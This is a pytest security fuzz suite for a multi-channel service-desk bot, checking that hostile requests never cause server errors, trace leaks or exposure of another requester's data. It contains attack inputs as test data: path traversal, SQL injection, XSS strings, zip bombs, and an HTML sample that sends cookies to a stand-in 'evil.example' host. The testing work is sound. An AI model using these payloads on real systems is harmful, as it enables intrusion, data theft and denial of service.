"""Hostile input over every route of one server running every channel (Telegram webhook,
WhatsApp webhook, web chat, the REST API, /healthz, /metrics): fuzzed methods, paths, queries,
headers and bodies; 10 MB bodies; a megabyte of text from an authentic chat; one route's
credentials tried on another; replayed officer actions and uploads; zip bombs and HTML/SVG with
scripts sent as the requested letter on each channel; ticket numbers guessed by the thousand in
chat, on the web chat and through the API.

What an attacker must never see: a 500 or a stack trace, another requester's data, a file
served back with an active content type; and nothing may be stored that should not be (rows and
files are counted before and after).

This complements the per-channel suites (tests/e2e/test_telegram_reliability.py,
test_whatsapp_fuzz.py, test_web_chat_fuzz.py, test_api_contract.py): those fuzz each channel's
payloads with valid credentials; this one fuzzes the routes themselves.
"""

from __future__ import annotations

import asyncio
import functools
import gzip
import io
import json
import re
import uuid
import zipfile
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Protocol
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text

from bot.callbacks import OfficerAction, OfficerTap
from bot.messages import Outbound, OutboundDocument
from bot.server import create_app
from bot.telegram import TelegramRuntime
from bot.web.router import channel as web_channel
from bot.web.session import COOKIE_NAME
from core.api_tokens import CATALOG_READ, SCOPES, hash_token, new_token
from core.settings import Settings
from storage import repositories as repo
from storage.db import Database
from storage.models import metadata, outbox, tickets
from tests.fakes.graph_api import (
    APP_SECRET,
    VERIFY_TOKEN,
    Clock,
    FakeGraphApi,
    document_message,
    messages_value,
    meta_signature,
    reply_message,
    text_message,
    webhook,
)
from tests.fakes.telegram_api import (
    WEBHOOK_SECRET,
    FakeTelegramAPI,
    callback_update,
    document_update,
    telegram_settings,
    text_update,
)

pytest_plugins = ["tests.fakes.telegram_fixtures"]
pytestmark = pytest.mark.usefixtures("offline_network")

# Monday 23 November 2026, 10:00 WIB: a working day inside babel's office hours.
MONDAY_MORNING = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)
CSRF = {"X-Requested-With": "servicedesk-web"}
TEN_MB = 10 * 1024 * 1024
REF = re.compile(r"(?:BABEL|KALBAR)-\d{4}-\d{5}")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

# The victim: a requester whose data must never reach anyone else.
VICTIM_CHAT = 424242
VICTIM = {
    "opd": "Dinas Rahasia Negara",
    "name": "Siti Marlina Kusumawardani",
    "phone": "081377712345",
    "place": "Gedung Tersembunyi Lantai 9",
    "need": "Jaringan ruang arsip rahasia putus",
}
VICTIM_DOCUMENT = "surat-rahasia-siti-marlina.pdf"
MARKERS = (
    "Marlina",
    "Kusumawardani",
    "081377712345",
    "Tersembunyi",
    "Rahasia Negara",
    "arsip rahasia",
    "surat-rahasia",
)


def network_repair(answers: dict[str, str]) -> list[tuple[str, str]]:
    """A babel network repair up to (not including) the request letter."""
    return [
        ("say", "/start"),
        ("say", "internet kantor mati"),
        ("tap", "svc:jaringan-intra"),
        ("say", answers["opd"]),
        ("say", answers["name"]),
        ("say", "lewati"),  # no NIP
        ("say", answers["phone"]),
        ("say", answers["place"]),
        ("say", answers["need"]),
        ("say", "seluruh kantor"),  # the impact
    ]


ATTACKER = {
    "opd": "Dinas Pendidikan",
    "name": "Budi Santoso",
    "phone": "081234567890",
    "place": "Gedung A lantai 2",
    "need": "Internet mati sejak pagi",
}


# --------------------------------------------------------------------------- the server


@dataclass
class Snapshot:
    """Rows per table, files under the attachment store, and characters stored in all."""

    rows: dict[str, int]
    files: dict[str, int]
    stored_chars: int

    def grown(self, later: Snapshot, *, ignore: tuple[str, ...] = ()) -> dict[str, int]:
        """Tables (outside `ignore`) with more rows in `later`."""
        return {
            name: later.rows[name] - count
            for name, count in self.rows.items()
            if later.rows[name] != count and name not in ignore
        }


@dataclass
class Desk:
    """One babel server with every channel: Telegram (webhook mode) and WhatsApp talk to fakes
    on 127.0.0.1; the web chat and the API answer through the same app."""

    app: FastAPI
    client: httpx.AsyncClient
    telegram: FakeTelegramAPI
    graph: FakeGraphApi
    settings: Settings
    db: Database
    clock: Clock
    tokens: dict[str, str] = field(default_factory=dict)
    browsers: list[httpx.AsyncClient] = field(default_factory=list)

    def browser(self) -> httpx.AsyncClient:
        """A client with its own cookie jar (one browser)."""
        transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=False)
        client = httpx.AsyncClient(transport=transport, base_url="http://servicedesk")
        self.browsers.append(client)
        return client

    async def telegram_post(
        self, body: Any, *, secret: str | None = WEBHOOK_SECRET
    ) -> httpx.Response:
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers = {"Content-Type": "application/json"}
        if secret is not None:
            headers["X-Telegram-Bot-Api-Secret-Token"] = secret
        return await self.client.post("/webhook/telegram", content=raw, headers=headers)

    async def whatsapp_post(self, body: Any, *, secret: str = APP_SECRET) -> httpx.Response:
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers = {
            "Content-Type": "application/json",
            "X-Hub-Signature-256": meta_signature(raw, secret),
        }
        return await self.client.post("/webhook/whatsapp", content=raw, headers=headers)

    async def snapshot(self) -> Snapshot:
        rows: dict[str, int] = {}
        chars = 0
        async with self.db.transaction() as conn:
            for table in metadata.sorted_tables:
                rows[table.name] = int(
                    (await conn.execute(select(func.count()).select_from(table))).scalar_one()
                )
                for column in table.columns:
                    total = (
                        await conn.execute(
                            text(
                                f'SELECT coalesce(sum(length(CAST("{column.name}" AS TEXT))), 0) '
                                f'FROM "{table.name}"'
                            )
                        )
                    ).scalar_one()
                    chars += int(total or 0)
        root = self.settings.attachments_dir
        files = (
            {str(p.relative_to(root)): p.stat().st_size for p in root.rglob("*") if p.is_file()}
            if root.exists()
            else {}
        )
        return Snapshot(rows, files, chars)

    async def ref_of(self, channel: str, chat: str) -> str | None:
        """The latest ticket filed from a chat."""
        async with self.db.transaction() as conn:
            found = (
                await conn.execute(
                    select(tickets.c.ref)
                    .where(tickets.c.channel == channel, tickets.c.chat_id == chat)
                    .order_by(tickets.c.id.desc())
                )
            ).first()
        return None if found is None else str(found[0])


@pytest.fixture
def graph() -> Iterator[FakeGraphApi]:
    with FakeGraphApi() as fake:
        yield fake


@pytest.fixture
async def desk(
    fake_telegram: FakeTelegramAPI, graph: FakeGraphApi, sqlite_db: Database, tmp_path: Path
) -> AsyncIterator[Desk]:
    settings = telegram_settings(
        fake_telegram,
        tmp_path / "data",
        agency="babel",
        whatsapp_verify_token=VERIFY_TOKEN,
        whatsapp_app_secret=APP_SECRET,
        whatsapp_access_token=graph.token,
        whatsapp_phone_number_id=graph.phone_number_id,
        whatsapp_api_base_url=graph.base_url,
        whatsapp_notification_template="pemberitahuan_tiket",
        whatsapp_template_language="id",
    )
    clock = Clock(MONDAY_MORNING)
    app = create_app(settings, db=sqlite_db, clock=clock, jobs=[])
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://servicedesk") as client:
            found = Desk(app, client, fake_telegram, graph, settings, sqlite_db, clock)
            telegram: TelegramRuntime = app.state.runtime.services["telegram"]
            await asyncio.wait_for(telegram.ready.wait(), timeout=20)
            found.tokens = {
                "all": await add_token(sqlite_db, "babel", SCOPES),
                "catalog": await add_token(sqlite_db, "babel", (CATALOG_READ,)),
                "kalbar": await add_token(sqlite_db, "kalbar", SCOPES),
            }
            try:
                yield found
            finally:
                for browser in found.browsers:
                    await browser.aclose()


async def add_token(db: Database, agency: str, scopes: tuple[str, ...]) -> str:
    token = new_token()
    async with db.transaction() as conn:
        await repo.create_token(
            conn,
            agency=agency,
            name=f"{agency}-{len(scopes)}",
            scopes=scopes,
            token_hash=hash_token(token),
            created_at=MONDAY_MORNING - timedelta(days=1),
        )
    return token


# --------------------------------------------------------------------------- people


class Person(Protocol):
    """A requester (or officer) in one chat on one channel."""

    channel: str

    @property
    def chat(self) -> str: ...

    async def say(self, words: str) -> None: ...

    async def tap(self, data: str) -> None: ...

    async def send_file(self, name: str, data: bytes, mime: str) -> None: ...

    def heard(self) -> list[str]: ...


@dataclass
class TelegramPerson:
    desk: Desk
    chat_id: int
    channel: str = "telegram"

    @property
    def chat(self) -> str:
        return str(self.chat_id)

    async def say(self, words: str) -> None:
        response = await self.desk.telegram_post(text_update(words, chat_id=self.chat_id))
        assert response.status_code == 200, response.text

    async def tap(self, data: str) -> None:
        response = await self.desk.telegram_post(callback_update(data, chat_id=self.chat_id))
        assert response.status_code == 200, response.text

    async def send_file(self, name: str, data: bytes, mime: str) -> None:
        file_id = f"f-{uuid.uuid4().hex}"
        self.desk.telegram.add_file(file_id, data, file_path=f"documents/{file_id}")
        update = document_update(
            file_id, file_name=name, mime_type=mime, file_size=len(data), chat_id=self.chat_id
        )
        response = await self.desk.telegram_post(update)
        assert response.status_code == 200, response.text

    def heard(self) -> list[str]:
        return self.desk.telegram.texts_to(self.chat_id)


@dataclass
class WhatsAppPerson:
    desk: Desk
    wa_id: str
    channel: str = "whatsapp"

    @property
    def chat(self) -> str:
        return self.wa_id

    async def _deliver(self, message: dict[str, Any]) -> None:
        response = await self.desk.whatsapp_post(webhook(messages_value(message)))
        assert response.status_code == 200, response.text

    async def say(self, words: str) -> None:
        await self._deliver(text_message(words, sender=self.chat))

    async def tap(self, data: str) -> None:
        await self._deliver(reply_message(data, sender=self.chat))

    async def send_file(self, name: str, data: bytes, mime: str) -> None:
        media_id = f"m-{uuid.uuid4().hex[:12]}"
        self.desk.graph.add_media(media_id, data, mime)
        await self._deliver(document_message(media_id, name, mime, sender=self.chat))

    def heard(self) -> list[str]:
        return self.desk.graph.texts_to(self.chat)


@dataclass
class WebPerson:
    desk: Desk
    client: httpx.AsyncClient
    channel: str = "web"
    said: list[dict[str, Any]] = field(default_factory=list)

    @property
    def chat(self) -> str:
        cookie = self.client.cookies.get(COOKIE_NAME)
        assert cookie is not None
        session = self.desk.app.state.runtime.services["web.sessions"].decode(cookie)
        assert isinstance(session, str)
        return session

    async def post(self, body: dict[str, Any]) -> httpx.Response:
        response = await self.client.post(
            "/web/api/messages", json={"id": str(uuid.uuid4()), **body}, headers=CSRF
        )
        if response.status_code == 200:
            self.said += response.json()["messages"]
        return response

    async def say(self, words: str) -> None:
        response = await self.post({"text": words})
        assert response.status_code == 200, response.text

    async def tap(self, data: str) -> None:
        response = await self.post({"choice": data})
        assert response.status_code == 200, response.text

    async def send_file(self, name: str, data: bytes, mime: str) -> None:
        response = await self.client.post(
            "/web/api/upload",
            files={"file": (name, data, mime)},
            data={"id": str(uuid.uuid4())},
            headers=CSRF,
        )
        assert response.status_code == 200, response.text
        self.said += response.json()["messages"]

    def heard(self) -> list[str]:
        return [str(m["text"]) for m in self.said]


def person(desk: Desk, channel: str, number: int) -> Person:
    if channel == "telegram":
        return TelegramPerson(desk, 7_200_000 + number)
    if channel == "whatsapp":
        return WhatsAppPerson(desk, f"6281372{number:06d}")
    return WebPerson(desk, desk.browser())


async def walk(who: Person, steps: list[tuple[str, str]]) -> None:
    for kind, value in steps:
        await (who.say(value) if kind == "say" else who.tap(value))


async def file_victims_ticket(desk: Desk) -> str:
    """The victim files a repair on Telegram with their letter; its ticket ref."""
    victim = TelegramPerson(desk, VICTIM_CHAT)
    await walk(victim, network_repair(VICTIM))
    await victim.send_file(VICTIM_DOCUMENT, PDF, "application/pdf")
    await victim.tap("sum:send")
    ref = await desk.ref_of("telegram", str(VICTIM_CHAT))
    assert ref is not None, victim.heard()[-3:]
    return ref


def assert_no_victim_data(text_seen: str) -> None:
    leaked = [marker for marker in MARKERS if marker.casefold() in text_seen.casefold()]
    assert leaked == [], text_seen[:500]


def assert_no_trace(response: httpx.Response) -> None:
    assert response.status_code < 500, (response.status_code, response.text[:500])
    assert "Traceback" not in response.text and 'File "' not in response.text


# --------------------------------------------------------------------------- every route

# (method, path) of every route the server offers, with values for its path parameters.
ROUTES: dict[tuple[str, str], str] = {
    ("GET", "/metrics"): "/metrics",
    ("GET", "/healthz"): "/healthz",
    ("GET", "/api/v1/tickets"): "/api/v1/tickets",
    ("GET", "/api/v1/tickets/{ref}"): "/api/v1/tickets/BABEL-2026-00001",
    ("GET", "/api/v1/reports"): "/api/v1/reports?from=2026-11-01&to=2026-11-30",
    ("GET", "/api/v1/ikm"): "/api/v1/ikm?from=2026-01-01&to=2026-11-30",
    ("GET", "/api/v1/catalog"): "/api/v1/catalog",
    ("GET", "/api/v1/calendar/{year}"): "/api/v1/calendar/2026",
    ("GET", "/api/v1/openapi.json"): "/api/v1/openapi.json",
    ("POST", "/api/v1/{path:path}"): "/api/v1/tickets",
    ("GET", "/api/docs"): "/api/docs",
    ("POST", "/webhook/telegram"): "/webhook/telegram",
    ("GET", "/webhook/whatsapp"): "/webhook/whatsapp",
    ("POST", "/webhook/whatsapp"): "/webhook/whatsapp",
    ("GET", "/"): "/",
    ("GET", "/web/static/{name}"): "/web/static/chat.js",
    ("POST", "/web/api/messages"): "/web/api/messages",
    ("GET", "/web/api/messages"): "/web/api/messages",
    ("POST", "/web/api/messages/ack"): "/web/api/messages/ack",
    ("POST", "/web/api/upload"): "/web/api/upload",
    ("GET", "/web/api/documents/{outbox_id:path}"): "/web/api/documents/1",
}
PATH_PARAM = re.compile(r"\{(\w+)(?::path)?\}")


def app_routes(app: FastAPI) -> set[tuple[str, str]]:
    """Every (method, path) the app routes (through included routers), HEAD left out; the
    API's catch-all, which answers every method, counts once (as POST)."""
    found: set[tuple[str, str]] = set()

    def collect(routes: Any) -> None:
        for route in routes:
            inner = getattr(route, "original_router", None)
            if inner is not None:
                collect(inner.routes)
            elif route.path.endswith("{path:path}"):
                found.add(("POST", route.path))
            else:
                found.update((m, route.path) for m in getattr(route, "methods", None) or ())

    collect(app.routes)
    return {(method, path) for method, path in found if method != "HEAD"}


def test_the_fuzz_plan_covers_every_route_the_server_offers(tmp_path: Path) -> None:
    app = create_app(Settings(_env_file=None, data_dir=tmp_path))  # type: ignore[call-arg]

    assert app_routes(app) == set(ROUTES)


header_text = st.text(
    st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"),
    max_size=80,
)
path_values = st.one_of(
    st.sampled_from(
        [
            "..",
            "../../etc/passwd",
            "%2e%2e%2f",
            "\x00",
            "BABEL-2026-00001",
            "KALBAR-2026-00001",
            "babel-2026-1",
            "chat.js",
            "index.html",
            "../index.html",
            "1",
            "-1",
            "0",
            "9" * 40,
            "1e3",
            str(2**31),
            str(2**63),
            "9" * 18,
            "²",
            "\u202eevil",
            "a" * 5000,
            "<script>alert(1)</script>",
            "' OR 1=1 --",
        ]
    ),
    st.text(max_size=60),
)
QUERY_KEYS = [
    "after",
    "from",
    "to",
    "lang",
    "limit",
    "cursor",
    "fields",
    "status",
    "service",
    "officer",
    "updated_since",
    "created_from",
    "hub.mode",
    "hub.verify_token",
    "hub.challenge",
    "access_token",
]
query_values = st.one_of(
    st.sampled_from(
        ["subscribe", VERIFY_TOKEN, "2026-11-01", "2026-02-30", "-1", "0", "en", "1" * 30, ""]
    ),
    st.text(max_size=40),
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=15,
)
bodies = st.one_of(
    st.none(),
    st.binary(max_size=3000),
    json_values.map(lambda value: json.dumps(value).encode()),
    st.fixed_dictionaries(
        {"id": st.uuids().map(str) | st.text(max_size=40)},
        optional={"text": st.text(max_size=200), "choice": st.text(max_size=70)},
    ).map(lambda value: json.dumps(value).encode()),
    st.fixed_dictionaries({"ids": st.lists(st.integers(), max_size=5) | json_values}).map(
        lambda value: json.dumps(value).encode()
    ),
    st.binary(max_size=500).map(
        lambda data: (
            b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"'
            b"\r\nContent-Type: application/pdf\r\n\r\n" + data + b"\r\n--b--\r\n"
        )
    ),
)
# Placeholders the test replaces with the desk's real credentials.
headers = st.fixed_dictionaries(
    {},
    optional={
        "authorization": st.sampled_from(
            ["Bearer <all>", "Bearer <catalog>", "Bearer <kalbar>", "Bearer <random>", "Basic x"]
        )
        | header_text,
        "cookie": st.sampled_from(["<session>", f"{COOKIE_NAME}=forged.cookie"]) | header_text,
        "x-telegram-bot-api-secret-token": st.just(WEBHOOK_SECRET) | header_text,
        "x-hub-signature-256": st.just("<sign>") | header_text,
        "x-requested-with": st.just("servicedesk-web") | header_text,
        "content-type": st.sampled_from(
            [
                "application/json",
                "multipart/form-data; boundary=b",
                "multipart/form-data",
                "application/x-www-form-urlencoded",
                "text/plain",
            ]
        )
        | header_text,
        "content-length": st.sampled_from(["0", "-1", "abc", "9" * 25, "²", "1e3", " 5"]),
        "if-none-match": st.just("*") | header_text,
        "accept-language": header_text,
        "x-forwarded-for": st.sampled_from(["127.0.0.1", "::1", "999.1.1.1"]) | header_text,
    },
)


@dataclass(frozen=True)
class FuzzedRequest:
    method: str
    route: tuple[str, str]
    path: str
    query: dict[str, str]
    headers: dict[str, str]
    body: bytes | None
    authentic: bool  # with the credentials a legitimate caller of the route has


@st.composite
def fuzzed_requests(draw: st.DrawFn) -> FuzzedRequest:
    route = draw(st.sampled_from(sorted(ROUTES)))
    method = draw(
        st.sampled_from([route[0]] * 20 + ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
    )

    def fill(match: re.Match[str]) -> str:
        return quote(draw(path_values), safe="/" if match[0].endswith(":path}") else "")

    return FuzzedRequest(
        method=method,
        route=route,
        path=PATH_PARAM.sub(fill, route[1]),
        query=draw(
            st.dictionaries(st.sampled_from(QUERY_KEYS) | st.text(max_size=8), query_values)
        ),
        headers=draw(headers),
        body=draw(bodies),
        authentic=draw(st.sampled_from([True] * 7 + [False] * 3)),
    )


@dataclass
class FuzzLog:
    """What the fuzz reached, to show it went past the front doors."""

    statuses: Counter[tuple[str, int]] = field(default_factory=Counter)


@pytest.fixture
async def fuzzed_desk(desk: Desk) -> AsyncIterator[tuple[Desk, str, FuzzLog]]:
    """The desk with the victim's ticket filed, a web session of the attacker's own, and a
    log of the answers."""
    await file_victims_ticket(desk)
    attacker = WebPerson(desk, desk.browser())
    await attacker.say("halo")
    cookie = attacker.client.cookies.get(COOKIE_NAME)
    assert cookie is not None
    log = FuzzLog()
    yield desk, f"{COOKIE_NAME}={cookie}", log
    # On every route some requests got past its door (authentication, CSRF, method).
    past = {route for (route, status) in log.statuses if status not in (401, 403, 405)}
    assert past == {path for _, path in ROUTES}, sorted({p for _, p in ROUTES} - past)


FUZZ = settings(
    max_examples=1000,
    deadline=None,
    derandomize=True,  # the same requests every run: a failure can be reproduced
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@FUZZ
@given(request=fuzzed_requests())
async def test_fuzzed_requests_to_any_route_never_get_a_500_a_trace_or_anyones_data(
    fuzzed_desk: tuple[Desk, str, FuzzLog], request: FuzzedRequest
) -> None:
    desk, session_cookie, log = fuzzed_desk
    body = request.body
    sent: dict[bytes, bytes] = {}
    given_headers = dict(request.headers)
    if request.authentic:
        given_headers.update(authentic_headers(desk, request.route, body or b""))
    for header, value in given_headers.items():
        if value == "<sign>":
            value = meta_signature(body or b"")
        elif value == "<session>":
            value = session_cookie
        for label, token in desk.tokens.items():
            value = value.replace(f"<{label}>", token)
        value = value.replace("<random>", new_token())
        sent[header.lower().encode()] = value.encode("latin-1")
    if body is None and b"content-length" in sent:
        body = b""

    response = await desk.client.request(
        request.method, request.path, params=request.query, headers=sent, content=body
    )

    assert_no_trace(response)
    if b"Bearer " + desk.tokens["all"].encode() not in sent.get(b"authorization", b""):
        # Only the agency's own full token reads tickets; nothing else shows the victim's data.
        assert_no_victim_data(response.text)
    log.statuses[(request.route[1], response.status_code)] += 1


# --------------------------------------------------------------------------- big bodies


def authentic_headers(desk: Desk, route: tuple[str, str], body: bytes) -> dict[str, str]:
    """What a legitimate caller of `route` sends with `body`."""
    path = route[1]
    if path == "/webhook/telegram":
        return {"X-Telegram-Bot-Api-Secret-Token": WEBHOOK_SECRET}
    if path == "/webhook/whatsapp":
        return {"X-Hub-Signature-256": meta_signature(body)}
    if path.startswith("/web/api/upload"):
        return {**CSRF, "Content-Type": "multipart/form-data; boundary=b"}
    if path.startswith("/web/"):
        return {**CSRF, "Content-Type": "application/json"}
    if path.startswith("/api/v1/"):
        return {"Authorization": f"Bearer {desk.tokens['all']}"}
    return {}


async def test_ten_megabyte_bodies_and_megabyte_headers_get_a_polite_answer_on_every_route(
    desk: Desk,
) -> None:
    await file_victims_ticket(desk)
    text_body = b'{"id": "%s", "text": "' % str(uuid.uuid4()).encode() + b"a" * TEN_MB + b'"}'
    file_body = (
        b'--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n'
        + str(uuid.uuid4()).encode()
        + b'\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="besar.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + PDF + b"0" * TEN_MB + b"\r\n--b--\r\n"
    )
    junk = "a," * 500_000
    huge_headers = {
        "Authorization": f"Bearer {junk}",
        "Cookie": f"{COOKIE_NAME}={junk}",
        "X-Telegram-Bot-Api-Secret-Token": junk,
        "X-Hub-Signature-256": f"sha256={junk}",
        "If-None-Match": junk,
        "Accept-Language": junk,
        **CSRF,
    }
    long_query = {key: "a," * 800 for key in QUERY_KEYS}  # what a URL can carry
    before = await desk.snapshot()

    async def streamed(big: bytes) -> AsyncIterator[bytes]:
        for start in range(0, len(big), 1 << 20):
            yield big[start : start + (1 << 20)]

    answers: dict[tuple[str, str], tuple[int, int]] = {}
    for route, path in sorted(ROUTES.items()):
        method = route[0]
        big = file_body if path == "/web/api/upload" else text_body
        sized = await desk.client.request(
            method, path, content=big, headers=authentic_headers(desk, route, big)
        )
        chunked = await desk.client.request(
            method, path, content=streamed(big), headers=authentic_headers(desk, route, big)
        )
        headed = await desk.client.request(
            method, path.split("?")[0], params=long_query, headers=huge_headers, content=b"{}"
        )
        for response in (sized, chunked, headed):
            assert_no_trace(response)
            if not path.startswith("/api/"):
                assert_no_victim_data(response.text)
        answers[route] = (sized.status_code, chunked.status_code)
    after = await desk.snapshot()

    # Every route that reads a body refuses this one before keeping anything of it.
    for route in ROUTES:
        if route[0] == "POST" and not route[1].startswith("/api/"):
            assert answers[route] == (413, 413), (route, answers[route])
    assert before.grown(after, ignore=("access_log", "api_tokens")) == {}
    assert after.files == before.files
    assert not list((desk.settings.attachments_dir / ".incoming").glob("*"))


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
async def test_a_megabyte_of_text_from_an_authentic_chat_is_answered_and_kept_short(
    desk: Desk, channel: str
) -> None:
    # The largest text the webhook takes (1 MB bodies), as a first message and as an answer.
    words = "internet kantor mati " * 47_000
    who = person(desk, channel, 1)
    before = await desk.snapshot()

    await who.say(words)
    await who.tap("svc:jaringan-intra")
    await who.say("Dinas " * 160_000)
    after = await desk.snapshot()

    assert "Jawaban terlalu panjang" in who.heard()[-1]
    assert after.stored_chars - before.stored_chars < 64_000
    assert max(len(line) for line in who.heard()) < 5000


# --------------------------------------------------------------------------- credentials


async def test_one_routes_credentials_never_open_another(desk: Desk) -> None:
    """The Telegram secret, the WhatsApp app secret and verify token, an API token and a web
    session cookie, each tried where another one belongs: all refused, nothing kept."""
    browser = desk.browser()
    await WebPerson(desk, browser).say("halo")
    cookie = browser.cookies.get(COOKIE_NAME)
    token = desk.tokens["all"]
    with_cookie = desk.browser()
    with_cookie.cookies.set(COOKIE_NAME, str(cookie))
    update = json.dumps(text_update("/start", chat_id=7_300_001)).encode()
    batch = json.dumps(webhook(messages_value(text_message("halo", sender="6281300000001"))))
    before = await desk.snapshot()

    refusals = [
        # Telegram's webhook with everything but its own secret.
        await desk.telegram_post(update, secret=APP_SECRET),
        await desk.telegram_post(update, secret=VERIFY_TOKEN),
        await desk.telegram_post(update, secret=token),
        await desk.client.post(
            "/webhook/telegram",
            content=update,
            params={"secret_token": WEBHOOK_SECRET},
            headers={"Authorization": f"Bearer {WEBHOOK_SECRET}"},
        ),
        # WhatsApp's webhook signed with the other secrets.
        await desk.whatsapp_post(batch.encode(), secret=WEBHOOK_SECRET),
        await desk.whatsapp_post(batch.encode(), secret=VERIFY_TOKEN),
        await desk.whatsapp_post(batch.encode(), secret=token),
        await desk.client.get(
            "/webhook/whatsapp",
            params={"hub.mode": "subscribe", "hub.verify_token": APP_SECRET, "hub.challenge": "1"},
        ),
        # The API with the webhook secrets or the session cookie.
        await desk.client.get(
            "/api/v1/tickets", headers={"Authorization": f"Bearer {WEBHOOK_SECRET}"}
        ),
        await desk.client.get("/api/v1/tickets", headers={"Authorization": f"Bearer {cookie}"}),
        await with_cookie.get("/api/v1/tickets"),
        # The web chat's acknowledgement with an API token instead of its CSRF header.
        await browser.post(
            "/web/api/messages/ack",
            json={"ids": [1]},
            headers={"Authorization": f"Bearer {token}"},
        ),
    ]
    after = await desk.snapshot()

    assert [r.status_code for r in refusals] == [403] * 8 + [401] * 3 + [403]
    assert before.grown(after) == {}
    assert desk.telegram.texts_to(7_300_001) == []
    assert desk.graph.sent_to("6281300000001") == []


# --------------------------------------------------------------------------- replays


async def test_a_replayed_officer_disposition_moves_the_ticket_once_and_notifies_once(
    desk: Desk,
) -> None:
    kadis, kabid = 7_400_001, 7_400_002
    async with desk.db.transaction() as conn:
        for name, role, chat in (("Rudi", "kadis", kadis), ("Sari", "kabid", kabid)):
            officer = await repo.add_officer(
                conn, agency="babel", name=name, roles=[role], at=MONDAY_MORNING
            )
            await repo.bind_officer_identity(
                conn,
                officer_id=officer.id,
                channel="telegram",
                external_id=str(chat),
                at=MONDAY_MORNING,
            )
    ref = await file_victims_ticket(desk)
    await TelegramPerson(desk, kadis).say("/antrian")
    dispose = text_update(f"/disposisi {ref} Mohon segera ditangani", chat_id=kadis)
    before = await desk.snapshot()

    answers = [await desk.telegram_post(dispose) for _ in range(5)]
    after = await desk.snapshot()

    assert [r.status_code for r in answers] == [200] * 5
    async with desk.db.transaction() as conn:
        ticket = await repo.get_ticket(conn, ref=ref)
        assert ticket is not None
        events = [e.kind for e in await repo.list_events(conn, ticket_id=ticket.id)]
    assert events.count("disposed") == 1
    told = [t for t in desk.telegram.texts_to(kabid) if t.startswith(f"Disposisi tiket {ref}")]
    assert len(told) == 1
    # One update kept; one reply to the kadis, one notice, one word to the requester.
    assert before.grown(after, ignore=("access_log",)) == {
        "inbox": 1,
        "outbox": 3,
        "ticket_events": 1,
    }


async def test_a_replayed_web_upload_keeps_one_file_and_answers_once(desk: Desk) -> None:
    who = WebPerson(desk, desk.browser())
    await walk(who, network_repair(ATTACKER))
    message_id = str(uuid.uuid4())
    before = await desk.snapshot()

    answers = [
        await who.client.post(
            "/web/api/upload",
            files={"file": ("surat.pdf", PDF, "application/pdf")},
            data={"id": message_id},
            headers=CSRF,
        )
        for _ in range(4)
    ]
    after = await desk.snapshot()

    assert [r.status_code for r in answers] == [200] * 4
    assert [r.json()["duplicate"] for r in answers] == [False, True, True, True]
    assert len(after.files) == len(before.files) + 1
    assert before.grown(after)["attachments"] == 1
    assert not list((desk.settings.attachments_dir / ".incoming").glob("*"))


# --------------------------------------------------------------------------- hostile files


def zip_bomb(names: tuple[str, ...], megabytes: int) -> bytes:
    """A small zip whose last member unpacks to `megabytes` of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in names[:-1]:
            archive.writestr(name, "<?xml version='1.0'?><Types/>")
        with archive.open(names[-1], "w", force_zip64=True) as member:
            zeros = b"\0" * (1 << 20)
            for _ in range(megabytes):
                member.write(zeros)
    return buffer.getvalue()


REFUSED = "jenis berkas ini tidak dapat kami terima"


@functools.cache
def bombs() -> dict[str, tuple[bytes, str]]:
    """Archives of a few hundred KB that unpack to hundreds of MB."""
    return {
        "bomb.zip": (zip_bomb(("nol.bin",), 200), "application/zip"),
        "bomb.gz": (gzip.compress(b"\0" * (100 << 20), 9), "application/gzip"),
        # Shaped like a Word file, so it is recognised as one: kept, never unpacked.
        "surat.docx": (
            zip_bomb(("[Content_Types].xml", "_rels/.rels", "word/document.xml"), 200),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    }


@pytest.mark.parametrize("channel", ["telegram", "whatsapp", "web"])
async def test_zip_bombs_sent_as_the_letter_are_refused_or_kept_unopened(
    desk: Desk, channel: str
) -> None:
    who = person(desk, channel, 2)
    await walk(who, network_repair(ATTACKER))
    before = await desk.snapshot()

    for name in ("bomb.zip", "bomb.gz"):
        data, mime = bombs()[name]
        await who.send_file(name, data, mime)
        assert REFUSED in who.heard()[-1]
    refused = await desk.snapshot()
    docx, mime = bombs()["surat.docx"]
    await who.send_file("surat.docx", docx, mime)
    after = await desk.snapshot()

    assert refused.files == before.files and before.grown(refused, ignore=("inbox", "outbox")) == {}
    [kept] = [size for path, size in after.files.items() if path not in before.files]
    assert kept == len(docx)  # the archive as sent, not what it unpacks to
    assert "surat.docx" in "\n".join(who.heard()[-2:])


ACTIVE_FILES = {
    "gambar.svg": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>fetch('/web/api/messages').then(r=>r.text()).then(alert)</script></svg>",
        "image/svg+xml",
    ),
    "surat.html": (
        b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'"
        b"+document.cookie</script>Surat permohonan</body></html>",
        "text/html",
    ),
}
ACTIVE_TYPES = ("html", "svg", "xml", "javascript")


